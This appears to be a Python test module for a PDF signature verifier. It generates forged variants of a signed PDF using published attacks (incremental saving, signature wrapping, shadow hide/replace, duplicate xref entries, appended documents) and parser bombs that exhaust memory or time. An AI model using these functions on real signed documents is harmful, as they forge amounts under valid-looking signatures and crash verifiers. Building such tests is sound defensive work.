"""Known attacks on PDF signatures, applied to a signed PDF.

- Incremental saving attack (Mladenov et al., "1 Trillion Dollar Refund", CCS 2019): an
  incremental update that redefines the page's content after signing.
- Signature wrapping (same paper): content smuggled into the unsigned gap of the byte range
  while the signed bytes stay as they were.
- Shadow attacks (Mainka, Mladenov, Rohlmann, NDSS 2021), content prepared before signing and
  revealed after by an update that looks harmless:
  hide (a form field filled in after signing whose appearance covers the text; or an
  annotation), replace (an object of the signed revision overwritten), hide-and-replace (the
  page pointed to content that was already in the signed file, unused).
"""

from __future__ import annotations

import io
import re

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import NameObject as N
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

FORGED = b"BT /F1 18 Tf 72 760 Td (Importe: 9999 EUR) Tj ET"


def _writer(pdf: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(pdf))


def _out(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(writer: IncrementalPdfFileWriter):
    ref = writer.root["/Pages"]["/Kids"][0]
    return ref, ref.get_object()


def incremental_saving(pdf: bytes) -> bytes:
    """A new content stream for the page, added in an incremental update."""
    writer = _writer(pdf)
    _, page = _page(writer)
    page[N("/Contents")] = writer.add_object(generic.StreamObject(stream_data=FORGED))
    writer.update_container(page)
    return _out(writer)


def appended_garbage(pdf: bytes) -> bytes:
    """Bytes appended after the last %%EOF, outside any revision."""
    return pdf + b"\n1000 0 obj (appended) endobj\n"


def signature_wrapping(pdf: bytes) -> bytes:
    """Shorten /Contents and put a new dictionary entry in the freed, unsigned gap."""
    match = re.search(rb"/Contents\s*<([0-9a-fA-F]+)>", pdf)
    assert match is not None
    hexdata = match.group(1)
    trimmed = hexdata.rstrip(b"0")
    trimmed += b"0" * (len(trimmed) % 2)
    injected = b"> /Injected (Importe: 9999 EUR)"
    filler = len(hexdata) - len(trimmed) - len(injected) + 1
    assert filler > 0
    replacement = trimmed + injected + b" " * filler
    start, end = match.start(1), match.end(1) + 1  # include the closing '>'
    forged = pdf[:start] + replacement + pdf[end:]
    assert len(forged) == len(pdf)
    return forged


def shadow_hide_form(pdf: bytes) -> bytes:
    """Fill in the form field prepared before signing: its appearance covers the amount."""
    writer = _writer(pdf)
    widget_ref = writer.root["/AcroForm"]["/Fields"][0]
    widget = widget_ref.get_object()
    appearance = writer.add_object(generic.StreamObject(
        {N("/Type"): N("/XObject"), N("/Subtype"): N("/Form"),
         N("/BBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 200, 30)])},
        stream_data=b"1 1 1 rg 0 0 200 30 re f 0 0 0 rg BT /Helv 18 Tf 2 8 Td (9999 EUR) Tj ET"))
    widget[N("/V")] = generic.TextStringObject("9999 EUR")
    widget[N("/AP")] = generic.DictionaryObject({N("/N"): appearance})
    writer.update_container(widget)
    return _out(writer)


def shadow_hide_annotation(pdf: bytes) -> bytes:
    """A white square annotation over the amount, added after signing."""
    writer = _writer(pdf)
    ref, page = _page(writer)
    annot = writer.add_object(generic.DictionaryObject({
        N("/Type"): N("/Annot"), N("/Subtype"): N("/Square"),
        N("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in (70, 750, 300, 785)]),
        N("/IC"): generic.ArrayObject([generic.FloatObject(1)] * 3),
        N("/P"): ref,
    }))
    annots = page.get("/Annots")
    page[N("/Annots")] = generic.ArrayObject([*(annots or []), annot])
    writer.update_container(page)
    return _out(writer)


def shadow_replace(pdf: bytes) -> bytes:
    """Overwrite the signed revision's content stream object with new text (same number)."""
    writer = _writer(pdf)
    _, page = _page(writer)
    content_ref = page.raw_get("/Contents")
    writer.mark_update(content_ref)
    stream = content_ref.get_object()
    stream._data = FORGED
    stream._encoded_data = None
    return _out(writer)


def shadow_hide_and_replace(pdf: bytes) -> bytes:
    """Point the page at content that was already in the signed file, unused."""
    writer = _writer(pdf)
    _, page = _page(writer)
    page[N("/Contents")] = writer.root.raw_get("/CedulaTestHidden")
    writer.update_container(page)
    return _out(writer)


def truncated(pdf: bytes) -> bytes:
    return pdf[: len(pdf) * 2 // 3]


# Signature wrapping through a literal-string /Contents ------------------------------------

def _byte_range(pdf: bytes, index: int = 0) -> tuple[int, int, int, int]:
    found = re.findall(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf)
    return tuple(int(n) for n in found[index])  # type: ignore[return-value]


def _literal(data: bytes) -> bytes:
    """A PDF literal string body for `data` (ISO 32000-1, 7.3.4.2): escape ( ) \\ and CR."""
    out = bytearray()
    for byte in data:
        if byte in b"()\\":
            out += b"\\" + bytes([byte])
        elif byte == 0x0D:
            out += b"\\r"
        else:
            out.append(byte)
    return bytes(out)


def literal_contents(pdf: bytes, index: int = 0, *, forged: bytes = FORGED) -> bytes:
    """Re-encode signature `index`'s /Contents as a literal string padded with NULs, so that
    pyHanko's size equation (twice the decoded length plus two) counts a new revision appended
    after the signed bytes as part of "the entire file"; the new revision replaces the page.

    Everything after the signature's own revision (e.g. a document time-stamp) is cut first.
    """
    _, first, second, length = _byte_range(pdf, index)
    pdf = pdf[:second + length]
    der = bytes.fromhex(pdf[first + 1:second - 1].decode("ascii")).rstrip(b"\0")
    encoded = _literal(der)
    gap = second - first
    padding = gap - 2 - len(encoded)
    assert padding > 0
    body = pdf[:first] + b"(" + encoded + b"\0" * padding + b")" + pdf[second:]
    target = first + length + 2 * (len(der) + padding) + 2  # what pyHanko calls the whole file

    def update(pad: int) -> bytes:
        writer = _writer(body)
        _, page = _page(writer)
        page[N("/Contents")] = writer.add_object(generic.StreamObject(stream_data=forged))
        writer.update_container(page)
        writer.add_object(generic.StreamObject(stream_data=b"%" * pad))
        return _out(writer)

    pad = 0
    for _ in range(6):
        out = update(pad)
        if 0 <= target - len(out) <= 2:
            return out + b"\n" * (target - len(out))
        pad += target - len(out)
    raise AssertionError("could not size the appended revision")


# Shapes that used to crash the verifier ----------------------------------------------------

def _replace_cms(pdf: bytes, transform, index: int = 0) -> bytes:
    """Swap signature `index`'s CMS for `transform(cms)`, hex-encoded into the same gap."""
    from asn1crypto import cms

    _, first, second, _ = _byte_range(pdf, index)
    der = bytes.fromhex(pdf[first + 1:second - 1].decode("ascii"))
    info = cms.ContentInfo.load(der)
    new = transform(info).dump().hex().encode()
    width = second - first - 2
    assert len(new) <= width
    return pdf[:first + 1] + new + b"0" * (width - len(new)) + pdf[second - 1:]


def without_signer_certificate(pdf: bytes) -> bytes:
    """The CMS with its certificates removed (the signer's certificate cannot be found)."""
    from asn1crypto import cms

    def strip(info):
        signed = info["content"]
        fields = {name: signed[name] for name in ("version", "digest_algorithms",
                                                   "encap_content_info", "signer_infos")}
        return cms.ContentInfo({"content_type": "signed_data",
                                "content": cms.SignedData(fields)})

    return _replace_cms(pdf, strip)


def _with_field(writer, ref) -> bytes:
    """The update in `writer` with the field `ref` added to the form's fields (a new form if the
    document has none)."""
    form = writer.root.get("/AcroForm")
    if form is None:
        writer.root[N("/AcroForm")] = writer.add_object(generic.DictionaryObject(
            {N("/Fields"): generic.ArrayObject([ref])}))
        writer.update_root()
    else:
        form = form.get_object()
        form[N("/Fields")].append(ref)
        writer.update_container(form)
    return _out(writer)


def cyclic_field_tree(pdf: bytes) -> bytes:
    """A form field that is its own kid (ISO 32000-1, 12.7.3.1 forbids it)."""
    writer = _writer(pdf)
    field = generic.DictionaryObject({N("/T"): generic.TextStringObject("Bucle")})
    ref = writer.add_object(field)
    field[N("/Kids")] = generic.ArrayObject([ref])
    return _with_field(writer, ref)


def deep_field_tree(pdf: bytes, depth: int = 5000) -> bytes:
    """A chain of `depth` nested form fields."""
    writer = _writer(pdf)
    child = writer.add_object(generic.DictionaryObject({N("/T"): generic.TextStringObject("f"),
                                                        N("/FT"): N("/Sig")}))
    for _ in range(depth):
        child = writer.add_object(generic.DictionaryObject({
            N("/T"): generic.TextStringObject("f"), N("/Kids"): generic.ArrayObject([child])}))
    return _with_field(writer, child)


def eof_bomb(pdf: bytes, markers: int) -> bytes:
    """`pdf` plus an incremental update holding a stream of `markers` %%EOF lines: a valid
    PDF whose bytes are nearly all revision markers."""
    writer = _writer(pdf)
    writer.root[N("/CedulaBomb")] = writer.add_object(
        generic.StreamObject(stream_data=b"%%EOF\n" * markers))
    writer.update_root()
    return _out(writer)


# Shadow changes that pyHanko's default policy lets pass --------------------------------------

def _update_root(pdf: bytes, change) -> bytes:
    writer = _writer(pdf)
    change(writer, writer.root)
    writer.update_root()
    return _out(writer)


def need_appearances(pdf: bytes) -> bytes:
    """Switch /NeedAppearances on: viewers redraw every field from its stored value."""
    def change(writer, root):
        form = root["/AcroForm"]
        form[N("/NeedAppearances")] = generic.BooleanObject(True)
        if isinstance(root.raw_get("/AcroForm"), generic.IndirectObject):
            writer.update_container(form)
    return _update_root(pdf, change)


def form_default_appearance(pdf: bytes) -> bytes:
    def change(writer, root):
        form = root["/AcroForm"]
        form[N("/DA")] = generic.TextStringObject("/Helv 0 Tf 1 1 1 rg")  # white text
        if isinstance(root.raw_get("/AcroForm"), generic.IndirectObject):
            writer.update_container(form)
    return _update_root(pdf, change)


def info_title(pdf: bytes) -> bytes:
    """Give the document information dictionary a new title."""
    writer = _writer(pdf)
    info = writer.trailer["/Info"]
    info[N("/Title")] = generic.TextStringObject("Factura pagada")
    writer.update_container(info)
    return _out(writer)


def false_pdfa_claim(pdf: bytes) -> bytes:
    xmp = (b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
           b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
           b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
           b'<rdf:Description rdf:about="" xmlns:pdfaid="http://www.aiim.org/pdfa/ns/id/">'
           b'<pdfaid:part>3</pdfaid:part><pdfaid:conformance>A</pdfaid:conformance>'
           b'</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>')

    def change(writer, root):
        from pyhanko.pdf_utils.metadata.xmp_xml import MetadataStream

        root[N("/Metadata")] = writer.add_object(MetadataStream(stream_data=xmp))
    return _update_root(pdf, change)


def mark_info(pdf: bytes) -> bytes:
    return _update_root(pdf, lambda writer, root: root.__setitem__(
        N("/MarkInfo"), generic.DictionaryObject({N("/Marked"): generic.BooleanObject(True)})))


def catalog_version(pdf: bytes) -> bytes:
    """Change the catalog's /Version (which overrides the header, ISO 32000-1, 7.7.2)."""
    def change(writer, root):
        root[N("/Version")] = N("/1.7" if root.get("/Version") == "/2.0" else "/2.0")
    return _update_root(pdf, change)


# Signed attributes changed and signed again with the signer's own key ------------------------

def resigned(pdf: bytes, key, *, drop: tuple[str, ...] = (), index: int = 0) -> bytes:
    """Signature `index`'s CMS with the signed attributes `drop` removed, signed again with the
    signer's (ECDSA) `key`: what the holder of a key can make of their own signature (e.g. a
    signature without the signing-certificate attribute, which lets another certificate for
    the same key be put in its place). Unsigned attributes (time-stamps) are dropped."""
    from asn1crypto import cms
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import ec

    def transform(info):
        signed = info["content"]
        signer_info = signed["signer_infos"][0]
        attrs = cms.CMSAttributes([a for a in signer_info["signed_attrs"]
                                   if a["type"].native not in drop])
        signature = key.sign(attrs.dump(force=True), ec.ECDSA(hashes.SHA256()))
        fields = {name: signer_info[name] for name in ("version", "sid", "digest_algorithm",
                                                       "signature_algorithm")}
        new_info = cms.SignerInfo({**fields, "signed_attrs": attrs, "signature": signature})
        signed["signer_infos"] = cms.SignerInfos([new_info])
        return cms.ContentInfo({"content_type": "signed_data", "content": signed})

    return _replace_cms(pdf, transform, index)


def new_document_after(pdf: bytes, text: str = "Importe: 9999 EUR") -> bytes:
    """A whole new one-page PDF written after the bytes of `pdf`, with its own cross-reference
    table and no /Prev: a reader sees only the new document, yet `pdf` is still a prefix of the
    file that ends with %%EOF, i.e. looks like an earlier revision of it."""
    from pyhanko.pdf_utils.writer import PdfFileWriter

    writer = PdfFileWriter()
    font = writer.add_object(generic.DictionaryObject({
        N("/Type"): N("/Font"), N("/Subtype"): N("/Type1"), N("/BaseFont"): N("/Helvetica")}))
    content = writer.add_object(generic.StreamObject(
        stream_data=f"BT /F1 18 Tf 72 760 Td ({text}) Tj ET".encode()))
    writer.insert_page(generic.DictionaryObject({
        N("/Type"): N("/Page"),
        N("/MediaBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 842)]),
        N("/Resources"): generic.DictionaryObject({N("/Font"): generic.DictionaryObject(
            {N("/F1"): font})}),
        N("/Contents"): content}))
    out = io.BytesIO(pdf)
    out.seek(len(pdf))
    writer.write(out)  # offsets are positions in the whole file
    return out.getvalue()


def duplicate_xref_entry(pdf: bytes, forged: bytes = FORGED) -> bytes:
    """An update whose cross-reference table lists the page's content stream twice: first at
    a new object with `forged` text, then at its signed original. pyHanko keeps the last entry
    (nothing changed), poppler the first (the forged text is shown)."""
    from pyhanko.pdf_utils.reader import PdfFileReader

    reader = PdfFileReader(io.BytesIO(pdf), strict=True)
    number = reader.root["/Pages"]["/Kids"][0].get_object().raw_get("/Contents").idnum
    original = [m.start() for m in re.finditer(rb"(?<![0-9])%d 0 obj" % number, pdf)][-1]
    size = int(re.findall(rb"/Size (\d+)", pdf)[-1])
    previous = int(pdf[pdf.rfind(b"startxref") + 9:].split()[0])
    root = re.findall(rb"/Root (\d+ 0 R)", pdf)[-1]
    new = len(pdf)
    body = pdf + b"%d 0 obj\n<< /Length %d >>\nstream\n" % (number, len(forged)) + forged + \
        b"\nendstream\nendobj\n"
    start = len(body)
    return body + (b"xref\n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n" % (number, new, number, original)
                   + b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
                   % (size, root, previous, start))


def zero_width_xref_bomb(pdf: bytes, entries: int) -> bytes:
    """An update whose cross-reference stream declares `entries` objects in zero bytes
    (/W [0 0 0]: every field takes its default, ISO 32000-1, 7.5.8.2): a few hundred bytes
    that make a reader build a table of millions of entries."""
    size = int(re.findall(rb"/Size (\d+)", pdf)[-1])
    previous = int(pdf[pdf.rfind(b"startxref") + 9:].split()[0])
    root = re.findall(rb"/Root (\d+ 0 R)", pdf)[-1]
    stream = (b"%d 0 obj\n<< /Type /XRef /Size %d /W [0 0 0] /Index [%d %d] /Root %s /Prev %d "
              b"/Length 0 >>\nstream\n\nendstream\nendobj\n"
              % (size, size + entries, size + 1, entries - 1, root, previous))
    return pdf + stream + b"startxref\n%d\n%%%%EOF\n" % len(pdf)


def without_prev(pdf: bytes) -> bytes:
    """`pdf` (signed, then changed in an update) with one last cross-reference table for every
    object and no /Prev: a reader sees a single revision that holds the signature and the
    change, so the difference analysis has no earlier revision to compare."""
    offsets: dict[int, int] = {}
    for match in re.finditer(rb"(?<![0-9])(\d+) 0 obj", pdf):
        if b"/XRef" not in pdf[match.start():match.start() + 300].split(b"stream")[0]:
            offsets[int(match.group(1))] = match.start()
    root = re.findall(rb"/Root (\d+ 0 R)", pdf)[-1]
    size = max(offsets) + 1
    body = pdf if pdf.endswith(b"\n") else pdf + b"\n"
    table = [b"xref\n0 %d\n0000000000 65535 f \n" % size]
    table += [b"%010d 00000 n \n" % offsets[n] if n in offsets else b"0000000000 65535 f \n"
              for n in range(1, size)]
    return body + b"".join(table) + b"trailer\n<< /Size %d /Root %s >>\nstartxref\n%d\n%%%%EOF\n" \
        % (size, root, len(body))


def object_stream_bomb(pdf: bytes, *, streams: int = 4, numbers: int = 500_000) -> bytes:
    """An update whose DSS /Certs lists arrays of `numbers` zeros, each alone in a compressed
    object stream: a few kilobytes that the reader parses for minutes (pure-Python parsing,
    ~20 µs per object), with no checkpoint of the verification budget on the way. Each stream
    decodes to under 1 MiB, within the decode limits (`signing.pdf_parsing.DECODE_LIMITS`):
    only the object count stops it."""
    writer = _writer(pdf)
    writer.stream_xrefs = True
    refs = generic.ArrayObject()
    for _ in range(streams):
        stream = writer.prepare_object_stream()
        refs.append(writer.add_object(
            generic.ArrayObject([generic.NumberObject(0)] * numbers), obj_stream=stream))
    writer.root[N("/DSS")] = writer.add_object(generic.DictionaryObject(
        {N("/Type"): N("/DSS"), N("/Certs"): refs}))
    writer.update_root()
    return _out(writer)
